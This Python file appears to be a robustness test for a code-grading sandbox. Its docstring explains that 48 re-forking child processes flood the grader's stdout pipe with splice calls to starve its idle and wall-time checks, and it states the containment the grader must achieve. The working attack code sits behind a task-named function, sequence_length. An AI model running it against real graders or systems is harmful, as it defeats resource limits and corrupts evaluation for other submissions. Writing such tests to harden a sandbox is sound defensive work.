"""Attack: keep the grader's end of the output pipe (fd 1) full forever, so that the grader's
``SandboxRunner._drain`` never sees an empty pipe and never gets back to its CPU/idle/wall checks.

Forty-eight child processes (not threads of the worker, so their CPU time is not the worker's;
each re-forks a fresh writer before RLIMIT_CPU can stop it) grow the pipe to 1 MiB and splice a
1 MiB tmpfs file into it again and again, faster than the grader reads 64 KiB at a time. The
worker's own thread then sleeps. Measured: the grader spent 25 of 30 s inside one ``_drain`` call
(reading and discarding ~15 GB), so the 20 s idle limit fired late, and it burns a core meanwhile;
with a single writer the grader keeps up.

What must hold instead: the call is stopped by its budgets (idle 20 s / wall 200 s), the flood
costs only this submission, the worker and its children are killed, and the submissions graded
after it get their solo scores without waiting for the batch-level timeout.
"""
import fcntl
import os
import time


def _pump() -> None:
    src = os.open("/tmp/flood", os.O_RDWR | os.O_CREAT, 0o600)
    os.write(src, b"x" * (1 << 20))
    try:
        fcntl.fcntl(1, 1031, 1 << 20)  # F_SETPIPE_SZ
    except OSError:
        pass
    start = time.process_time()
    while True:
        try:
            os.splice(src, 1, 1 << 20, offset_src=0)
        except OSError:
            os.write(1, b"x" * 65536)
        if time.process_time() - start > 60:  # hand over to a fresh process before RLIMIT_CPU
            if os.fork() == 0:
                start = time.process_time()
                continue
            os._exit(0)


def sequence_length(h, w, p):
    for _ in range(48):
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.setsid()
                _pump()
            finally:
                os._exit(0)
    time.sleep(10**6)
